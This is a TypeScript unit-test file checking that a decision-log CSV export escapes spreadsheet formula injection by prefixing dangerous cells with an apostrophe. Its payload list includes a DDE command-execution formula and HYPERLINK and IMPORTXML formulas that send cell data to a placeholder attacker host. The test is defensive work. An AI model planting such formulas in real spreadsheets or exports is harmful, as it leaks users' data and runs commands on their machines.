import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import { CSV_COLUMNS, decisionsToCsv } from '../../../lib/decisions/csv';
import type { DecisionRecord } from '../../../lib/decisions/record';
import { makeDecision } from '../decisions/fixtures';

// Issue 9: a decision log exported to CSV and opened in Excel, Sheets or LibreOffice must not
// run anything a customer, an operator or a hostile Chatwoot put into a text field.

const PAYLOADS = [
  '=1+1',
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"Click")',
  '+SUM(1,2)',
  '-2+3',
  '@SUM(A1:A2)',
  '\t=1+1',
  '\r=1+1',
  '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
  '-',
];

/** Text fields a customer, an operator or Chatwoot controls. */
const TEXT_FIELDS = ['replyBody', 'suggestedBody', 'note', 'operatorEmail', 'error'] as const;

function parse(csv: string): Record<string, string>[] {
  const result = Papa.parse<Record<string, string>>(csv.replace(/^\uFEFF/, ''), {
    header: true,
    skipEmptyLines: false,
  });
  expect(result.errors).toEqual([]);
  return result.data;
}

describe('CSV formula injection', () => {
  it.each(PAYLOADS)(
    'a text cell starting %j is exported as text (leading apostrophe)',
    (payload) => {
      const record: DecisionRecord = makeDecision(
        Object.fromEntries(TEXT_FIELDS.map((f) => [f, payload])) as Partial<DecisionRecord>,
      );
      const [row] = parse(decisionsToCsv([record]));
      const cells = Object.entries(row!);
      const hostile = cells.filter(([, v]) => v.replace(/^'/, '') === payload);
      expect(hostile.length).toBeGreaterThanOrEqual(TEXT_FIELDS.length);
      for (const [column, value] of hostile) expect(value, column).toBe(`'${payload}`);
      // No cell of the row can start a formula.
      for (const [column, value] of cells) expect(value, column).not.toMatch(/^[=+\-@\t\r]/);
    },
  );

  it('keeps the columns in place whatever the text holds (quotes, commas, line breaks)', () => {
    const record = makeDecision({
      replyBody: '=1+1,"two"\r\nthree',
      note: 'a,b\nc',
      operatorEmail: '"@evil"',
    });
    const [row] = parse(decisionsToCsv([record]));
    expect(Object.keys(row!)).toEqual([...CSV_COLUMNS]);
    expect(row!.id).toBe(record.id);
  });
});
